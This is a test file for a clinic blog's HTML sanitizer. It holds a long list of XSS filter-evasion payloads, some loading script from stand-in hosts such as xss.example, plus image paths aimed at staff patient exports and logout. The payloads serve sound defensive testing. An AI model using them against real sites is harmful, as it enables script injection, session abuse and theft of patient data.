import { parseDocument } from 'htmlparser2';
import type { ChildNode, Element } from 'domhandler';
import { describe, expect, it } from 'vitest';
import { htmlToText, readingMinutes, safeImageSrc, sanitizePostHtml } from './sanitize';

/**
 * Known XSS payloads, in the style of the OWASP XSS filter evasion cheat sheet. None may leave
 * anything executable in the sanitized HTML.
 */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/xss src="https://xss.example/x.js"></script>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<IMG SRC=x onerror="alert(1)">',
  '<img src=/images/blog/a.svg onerror=alert(1)>',
  '<img src="/images/ok.png" srcset="javascript:alert(1) 1x, https://evil.example/x.png 2x">',
  '<img src="https://evil.example/tracker.png">',
  '<img src="//evil.example/tracker.png">',
  '<img src="/\\evil.example/tracker.png">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<IMG LOWSRC="javascript:alert(\'XSS\')">',
  "<BODY ONLOAD=alert('XSS')>",
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="&#106;avascript:alert(1)">click</a>',
  '<a href="&#x6A;avascript&#x3A;alert(1)">click</a>',
  '<a href="java&#x09;script:alert(1)">click</a>',
  '<a href="  javascript:alert(1)">click</a>',
  '<a href="\u0001javascript:alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="VBScript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="DATA:text/html,<script>alert(1)</script>">click</a>',
  '<a href="livescript:alert(1)">click</a>',
  '<a href="//evil.example">click</a>',
  '<a href="/\\evil.example">click</a>',
  '<a href="https://ok.example" onclick="alert(1)" onmouseover=alert(1)>click</a>',
  '<a href="/ok" target="_blank" rel="opener">click</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">CLICK</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<p style="width: expression(alert(\'XSS\'));">x</p>',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
  '<XSS STYLE="behavior: url(xss.htc);">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><tr><td BACKGROUND="javascript:alert(1)">x</td></tr></TABLE>',
  '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciPjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<form action="javascript:alert(1)"><input type="submit"></form>',
  '<form><button formaction="javascript:alert(1)">X</button></form>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<textarea><img title="</textarea><img src onerror=alert(1)>">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p title="&quot;><script>alert(1)</script>">x</p>',
  '<div id="x"></div><p class="x" id="y" data-foo="bar">x</p>',
  '<h2 onmouseover="alert(1)">Heading</h2>',
  '<blockquote cite="javascript:alert(1)">q</blockquote>',
  '<code onclick=alert(1)>x</code><pre style="color:red">y</pre>',
  '<a href="https://ok.example/"><img src=x onerror=alert(1)></a>',
  '<img src="/images/ok.png" alt="x" onload="alert(1)" width="100" height="javascript:1">',
  '<img src="data:image/png;base64,iVBORw0KGgo=" onerror="alert(1)">',
  '<object data="javascript:alert(1)">',
  '<applet code="javascript:alert(1)"></applet>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body><p>x</p></body><script>alert(1)</script>',
];

const ALLOWED_TAGS = new Set([
  'h2',
  'h3',
  'h4',
  'h5',
  'h6',
  'p',
  'br',
  'hr',
  'ul',
  'ol',
  'li',
  'a',
  'img',
  'table',
  'caption',
  'thead',
  'tbody',
  'tfoot',
  'tr',
  'th',
  'td',
  'blockquote',
  'code',
  'pre',
  'strong',
  'em',
]);
const ALLOWED_ATTRIBUTES: Record<string, string[]> = {
  a: ['href', 'title', 'rel'],
  img: ['src', 'alt', 'title', 'width', 'height'],
  th: ['colspan', 'rowspan', 'scope'],
  td: ['colspan', 'rowspan'],
  ol: ['start'],
};
const SAFE_HREF = /^(https?:\/\/[^\s\\]|mailto:|tel:|\/(?![/\\])|#)/i;
const SAFE_SRC = /^(\/(?![/\\])|data:image\/(png|jpe?g|gif|webp);base64,)/i;

/** Every problem a browser could turn into script or a request elsewhere. */
function problems(html: string): string[] {
  const found: string[] = [];
  const walk = (nodes: ChildNode[]) => {
    for (const node of nodes) {
      if (node.type === 'script' || node.type === 'style') found.push(`<${(node as Element).name}>`);
      if (node.type === 'tag' || node.type === 'script' || node.type === 'style') {
        const el = node as Element;
        if (!ALLOWED_TAGS.has(el.name)) found.push(`tag ${el.name}`);
        for (const [name, value] of Object.entries(el.attribs)) {
          if (!(ALLOWED_ATTRIBUTES[el.name] ?? []).includes(name)) found.push(`attribute ${el.name}[${name}]`);
          if (name === 'href' && !SAFE_HREF.test(value)) found.push(`href ${value}`);
          if (name === 'src' && !SAFE_SRC.test(value)) found.push(`src ${value}`);
        }
        if (el.name === 'a' && !/\bnoopener\b/.test(el.attribs.rel ?? '')) found.push('link without noopener');
        walk(el.children);
      } else if ('children' in node) walk((node as Element).children);
    }
  };
  walk(parseDocument(html).children);
  // Inside markup (not escaped text), nothing that looks like script may remain.
  for (const tag of html.match(/<[^>]*>/g) ?? []) {
    if (/javascript:|vbscript:|livescript:|data:text|expression\(|\son\w+\s*=|srcset|style\s*=|xlink/i.test(tag))
      found.push(`markup ${tag}`);
  }
  return found;
}

describe('sanitizePostHtml', () => {
  it.each(PAYLOADS)('neutralises %s', (payload) => {
    const out = sanitizePostHtml(payload);
    expect(problems(out)).toEqual([]);
    // Cleaning twice changes nothing: the output does not re-parse into something new.
    expect(sanitizePostHtml(out)).toBe(out);
  });

  it('the checker itself catches dangerous markup', () => {
    expect(problems('<img src=x onerror=alert(1)>').length).toBeGreaterThan(0);
    expect(problems('<a href="javascript:alert(1)">x</a>').length).toBeGreaterThan(0);
    expect(problems('<svg onload=alert(1)>').length).toBeGreaterThan(0);
    expect(problems('<script>alert(1)</script>').length).toBeGreaterThan(0);
  });

  it('drops scripts and dangerous containers together with their content', () => {
    expect(sanitizePostHtml('<p>a</p><script>alert(1)</script><style>p{}</style><iframe src="/x">inner</iframe><p>b</p>')).toBe(
      '<p>a</p><p>b</p>',
    );
    expect(sanitizePostHtml('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>')).not.toContain('<img');
  });

  it('keeps the allowed structure of an article', () => {
    const html = [
      '<h2>Title</h2><h3>Sub</h3><p>Text with <strong>bold</strong>, <em>italic</em> and <code>code</code>.</p>',
      '<ul><li>one</li></ul><ol start="3"><li>three</li></ol>',
      '<blockquote>quote</blockquote><pre><code>x = 1</code></pre>',
      '<table><caption>Doses</caption><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>',
      '<img src="/images/blog/three-doshas.svg" alt="Three doshas" width="600" height="315" />',
    ].join('');
    expect(sanitizePostHtml(html)).toBe(html);
  });

  it('renames h1, b and i, and strips classes, ids and styles', () => {
    expect(sanitizePostHtml('<h1 class="x">T</h1><p id="a" style="color:red"><b>b</b> <i>i</i></p>')).toBe(
      '<h2>T</h2><p><strong>b</strong> <em>i</em></p>',
    );
  });

  it('adds rel="noopener" to links, and noreferrer to external ones', () => {
    expect(sanitizePostHtml('<a href="/services/abhyanga">A</a>')).toBe('<a rel="noopener" href="/services/abhyanga">A</a>');
    expect(sanitizePostHtml('<a href="https://www.who.int/" rel="opener" target="_blank">WHO</a>')).toBe(
      '<a rel="noopener noreferrer" href="https://www.who.int/">WHO</a>',
    );
    expect(sanitizePostHtml('<a href="mailto:care@example.com">m</a><a href="tel:+919876543210">t</a>')).toBe(
      '<a rel="noopener" href="mailto:care@example.com">m</a><a rel="noopener" href="tel:+919876543210">t</a>',
    );
    expect(sanitizePostHtml('<a href="javascript:alert(1)">x</a>')).toBe('<a rel="noopener">x</a>');
  });

  it('keeps images from our own origin and raster data URIs only', () => {
    const png = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
    expect(sanitizePostHtml(`<img src="${png}" alt="dot">`)).toBe(`<img src="${png}" alt="dot" />`);
    expect(sanitizePostHtml('<img src="https://clinic.example/images/a.png" alt="a">', { origin: 'https://clinic.example' })).toBe(
      '<img src="/images/a.png" alt="a" />',
    );
    expect(sanitizePostHtml('<p><img src="https://other.example/a.png">x</p>')).toBe('<p>x</p>');
    expect(sanitizePostHtml('<p><img src="data:image/svg+xml;base64,PHN2Zz4=">x</p>')).toBe('<p>x</p>');
    expect(sanitizePostHtml('<img src="/images/a.png">')).toBe('<img src="/images/a.png" alt="" />');
  });

  it("keeps images of the clinic's uploads and its own image folder only, never another path of the site", () => {
    const upload = `/api/uploads/${'a1'.repeat(16)}.webp`;
    expect(sanitizePostHtml(`<img src="${upload}" alt="u">`)).toBe(`<img src="${upload}" alt="u" />`);
    expect(sanitizePostHtml(`<img src="https://clinic.example${upload}">`, { origin: 'https://clinic.example' })).toBe(
      `<img src="${upload}" alt="" />`,
    );
    // A reader's browser would ask for these with the reader's session: an export, a sign-out, a page.
    for (const src of [
      '/api/staff/exports/patients.csv?from=2026-01-01&to=2026-11-30',
      'https://clinic.example/api/staff/exports/consultations.csv',
      '/api/auth/logout',
      '/api/uploads/../staff/exports/patients.csv',
      `/api/uploads/${'a1'.repeat(16)}.webp?x=/api/staff`,
      '/staff/today',
      '/a.png',
      '/images/../api/staff/exports/patients.csv',
      '/images/%2e%2e/api/staff/exports/patients.csv',
    ]) {
      expect(sanitizePostHtml(`<p><img src="${src}">x</p>`, { origin: 'https://clinic.example' }), src).toBe('<p>x</p>');
      expect(safeImageSrc(src, { origin: 'https://clinic.example' }), src).toBeNull();
    }
  });

  it('keeps Devanagari text and escapes stray markup characters', () => {
    expect(sanitizePostHtml('<p>वात, पित्त & कफ < 3</p>')).toBe('<p>वात, पित्त &amp; कफ &lt; 3</p>');
  });
});

describe('htmlToText and readingMinutes', () => {
  it('reads text between blocks with spaces and decodes entities', () => {
    expect(htmlToText('<h2>A</h2><p>b &amp; c</p><ul><li>d</li><li>e</li></ul>')).toBe('A b & c d e');
  });

  it('counts 200 words a minute, at least one', () => {
    expect(readingMinutes('<p>short</p>')).toBe(1);
    expect(readingMinutes(`<p>${'word '.repeat(1000)}</p>`)).toBe(5);
  });
});
